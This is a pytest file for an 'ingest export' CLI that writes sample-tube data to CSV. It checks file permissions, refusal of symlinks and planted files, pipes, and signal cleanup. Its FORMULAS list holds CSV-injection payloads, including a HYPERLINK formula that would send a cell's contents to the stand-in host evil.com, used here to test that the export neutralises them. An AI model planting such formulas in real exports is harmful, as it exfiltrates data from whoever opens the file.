"""`ingest export` against a store filled through the real server, while it
runs; its failures against a stopped one."""
from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys
import unicodedata

import pytest
from helpers import event, fresh_tube
from test_tail_cli import make_store


def run_export(data, *args):
    out = subprocess.run([sys.executable, "-m", "ingest", "export", *args, "--data", str(data)],
                         capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    return list(csv.DictReader(io.StringIO(out.stdout))), out.stderr


def test_export_bindings_and_tubes(server_factory):
    srv = server_factory()
    tube_a, tube_b = fresh_tube(), fresh_tube()
    evs = [event(tube_a, site_id="S-X") for _ in range(3)] + [event(tube_b, site_id="S-Y") for _ in range(2)]
    for ev in evs:
        assert srv.post(ev)[0] == 201
    rows, err = run_export(srv.data, "bindings")
    assert {r["event_id"] for r in rows} == {e["event_id"] for e in evs}
    assert "exported 5 bindings rows" in err
    rows, _ = run_export(srv.data, "bindings", "--site", "S-Y")
    assert [r["tube"] for r in rows] == [tube_b, tube_b]
    assert [r["position"] for r in rows] == ["1", "2"]
    later = max(e["scanned_at"] for e in evs) + 1
    assert run_export(srv.data, "bindings", "--since", str(later))[0] == []
    rows, _ = run_export(srv.data, "tubes", "--site", "S-X")
    assert [(r["tube"], r["state"], r["count"]) for r in rows] == [(tube_a, "open", "3")]
    rows, _ = run_export(srv.data, "results")
    assert rows == []


def test_export_to_a_file_makes_it_for_its_user_alone(server_factory, tmp_path):
    srv = server_factory()
    ev = event(fresh_tube())
    assert srv.post(ev)[0] == 201
    path = tmp_path / "bindings.csv"
    out = subprocess.run([sys.executable, "-m", "ingest", "export", "bindings", "--data", str(srv.data),
                          "--out", str(path)], capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    assert [r["person"] for r in csv.DictReader(path.open())] == [ev["person"]]
    assert stat.S_IMODE(path.stat().st_mode) == 0o600  # person codes


def test_export_of_a_missing_store_fails_clearly(tmp_path):
    out = subprocess.run([sys.executable, "-m", "ingest", "export", "tubes", "--data", str(tmp_path / "none")],
                         capture_output=True, text=True, timeout=60)
    assert out.returncode == 1 and "cannot read the store" in out.stderr


def test_export_to_a_missing_directory_fails_clearly(tmp_path):
    out_path = tmp_path / "no" / "such" / "x.csv"
    make_store(str(tmp_path / "d"), 3)
    out = subprocess.run([sys.executable, "-m", "ingest", "export", "tubes", "--data", str(tmp_path / "d"),
                          "--out", str(out_path)], capture_output=True, text=True, timeout=60)
    assert out.returncode == 1, out.stderr
    assert out.stderr == f"ingest: cannot write --out {out_path}: No such file or directory\n", out.stderr


def _unescape(cell: str) -> str:
    """The documented way back to the text a client sent."""
    return cell.removeprefix("'")


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&C2,"click")', "+SUM(1,2)", "-2+3", "@cmd", "\t=1+1",
            "'already quoted", 'a,"b"\nc', "S-plain", " =1+1", "\u3000=1+1", "\uff1dHYPERLINK(1)", "  \uff0b1",
            "\n=1", " " * 20 + "=1", " plain", "\uff07quoted"]


def test_export_neutralises_spreadsheet_formulas(server_factory):
    """Client text that a spreadsheet would run gets a leading "'"; the CSV
    still round-trips, and numbers stay numbers."""
    srv = server_factory()
    tubes = {}
    for site in FORMULAS:
        tube = fresh_tube()
        tubes[tube] = site
        ev = event(tube, site_id=site, event_id=f"-{tube}")  # ids may begin with "-" too
        status, _, body = srv.post(ev)
        assert status == 201, body
    for what in ("bindings", "tubes"):
        rows, _ = run_export(srv.data, what)
        rows = [r for r in rows if r["tube"] in tubes]
        assert len(rows) == len(FORMULAS)
        for row in rows:
            for column, cell in row.items():
                folded = unicodedata.normalize("NFKC", cell).lstrip(" \t\r\n")
                assert not folded.startswith(("=", "+", "-", "@")), (column, cell)
            assert _unescape(row["site_id"]) == tubes[row["tube"]]
        if what == "bindings":
            for row in rows:
                assert row["event_id"] == f"'-{row['tube']}"
                assert row["seq"].isdigit() and row["scanned_at"].isdigit() and row["position"] == "1"


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
def test_export_to_an_out_that_cannot_be_written_fails_clearly(tmp_path):
    make_store(str(tmp_path / "d"), 3)  # the rows fit the buffer: the error comes at the close
    out = subprocess.run([sys.executable, "-m", "ingest", "export", "bindings", "--data", str(tmp_path / "d"),
                          "--out", "/dev/full"], capture_output=True, text=True, timeout=60)
    assert (out.returncode, out.stderr) == (1, "ingest: cannot write --out /dev/full: No space left on device\n")


def test_a_failed_export_removes_the_file_it_made_only(tmp_path):
    made, there = tmp_path / "new.csv", tmp_path / "there.csv"
    there.write_text("an earlier export\n")
    for path in (made, there):
        out = subprocess.run([sys.executable, "-m", "ingest", "export", "tubes", "--data", str(tmp_path / "none"),
                              "--out", str(path)], capture_output=True, text=True, timeout=60)
        assert out.returncode == 1 and "cannot read the store" in out.stderr, out.stderr
    assert not made.exists() and there.exists()


def export_to(data, out_path, *extra, env=None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "ingest", "export", "bindings", "--data", str(data), *extra]
                          + (["--out", str(out_path)] if out_path else []),
                          capture_output=True, text=True, timeout=60, env=env)


def test_a_mistyped_data_leaves_an_earlier_export_as_it_was(tmp_path):
    make_store(str(tmp_path / "d"), 3)
    earlier = tmp_path / "earlier.csv"
    assert export_to(tmp_path / "d", earlier).returncode == 0
    before = earlier.read_bytes()
    out = export_to(tmp_path / "dd", earlier)
    assert out.returncode == 1 and "cannot read the store" in out.stderr
    assert earlier.read_bytes() == before


def test_an_out_that_is_there_is_made_the_users_alone_or_refused(tmp_path):
    make_store(str(tmp_path / "d"), 3)
    mine = tmp_path / "mine.csv"
    mine.write_text("old\n")
    os.chmod(mine, 0o644)
    assert export_to(tmp_path / "d", mine).returncode == 0
    assert stat.S_IMODE(os.stat(mine).st_mode) == 0o600 and mine.read_text().startswith("tube,position")
    # A link planted where the export goes could point at any file the user may write.
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n")
    link = tmp_path / "link.csv"
    link.symlink_to(victim)
    out = export_to(tmp_path / "d", link)
    assert out.returncode == 1 and out.stderr == f"ingest: refusing --out: {link} is a symbolic link; " \
                                                 "give the file itself\n", out.stderr
    assert victim.read_text() == "keep me\n" and link.is_symlink()
    assert export_to(tmp_path / "d", "/dev/null").returncode == 0  # a character device is fine


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to make a file another user owns")
def test_an_out_another_user_made_beforehand_is_refused(tmp_path):
    make_store(str(tmp_path / "d"), 3)
    planted = tmp_path / "planted.csv"
    planted.write_text("")
    os.chmod(planted, 0o666)
    os.chown(planted, 65534, 65534)  # nobody: made in a shared directory to read what is written into it
    out = export_to(tmp_path / "d", planted)
    assert out.returncode == 1 and "belongs to another user (uid 65534)" in out.stderr, out.stderr
    assert planted.read_text() == ""


def read_fifo_while(path, run):
    """What a reader of the pipe at path gets while run() writes to it."""
    import threading

    got = []
    reader = threading.Thread(target=lambda: got.append(open(path, "rb").read()), daemon=True)
    reader.start()
    result = run()
    if reader.is_alive():  # the export never opened it: let the reader's open return
        os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
    reader.join(timeout=30)
    return result, got[0] if got else None


def test_an_out_that_is_the_users_own_pipe_gets_the_rows(tmp_path):
    make_store(str(tmp_path / "d"), 3)
    pipe = tmp_path / "pipe.csv"
    os.mkfifo(pipe, 0o600)
    out, got = read_fifo_while(pipe, lambda: export_to(tmp_path / "d", pipe))
    assert out.returncode == 0, out.stderr
    assert got.startswith(b"tube,position") and got.count(b"\n") == 4


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to make a pipe another user owns")
def test_an_out_that_is_another_users_pipe_is_refused(tmp_path):
    # A pipe planted in a shared directory hands its reader what is written
    # into it, as a planted file would.
    make_store(str(tmp_path / "d"), 3)
    pipe = tmp_path / "planted.csv"
    os.mkfifo(pipe, 0o666)
    os.chown(pipe, 65534, 65534)
    out, got = read_fifo_while(pipe, lambda: export_to(tmp_path / "d", pipe))
    assert out.returncode == 1 and "belongs to another user (uid 65534)" in out.stderr, out.stderr
    assert got == b""


def test_export_writes_utf_8_to_stdout_whatever_the_locale(server_factory):
    srv = server_factory()
    assert srv.post(event(fresh_tube(), site_id="北京-朝阳"))[0] == 201
    srv.stop()
    out = subprocess.run([sys.executable, "-m", "ingest", "export", "bindings", "--data", str(srv.data)],
                         capture_output=True, timeout=60, env={**os.environ, "PYTHONIOENCODING": "latin-1"})
    assert out.returncode == 0, out.stderr
    assert "北京-朝阳" in out.stdout.decode("utf-8")


def test_an_export_stopped_by_sigterm_removes_its_half_file(tmp_path):
    import signal
    import time

    make_store(str(tmp_path / "d"), 30000)
    partial = tmp_path / "partial.csv"
    proc = subprocess.Popen([sys.executable, "-m", "ingest", "export", "bindings", "--data", str(tmp_path / "d"),
                             "--out", str(partial)], stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 30
    while not (partial.exists() and partial.stat().st_size) and time.monotonic() < deadline:
        time.sleep(0.005)
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=30)
    if proc.returncode == 0:  # it finished first: nothing to stop on this machine
        pytest.skip("the export ended before the signal")
    assert proc.returncode == 128 + signal.SIGTERM and "Traceback" not in err, err
    assert not partial.exists()


def test_export_tubes_refuses_a_time_range_it_cannot_apply(tmp_path):
    # --since used to be ignored for tubes without a word: every tube came out.
    make_store(str(tmp_path / "d"), 3)
    for option in ("--since", "--until"):
        out = subprocess.run([sys.executable, "-m", "ingest", "export", "tubes", "--data", str(tmp_path / "d"),
                              option, "1"], capture_output=True, text=True, timeout=60)
        assert out.returncode == 2 and out.stdout == "", out
        assert "a tube has no such time" in out.stderr
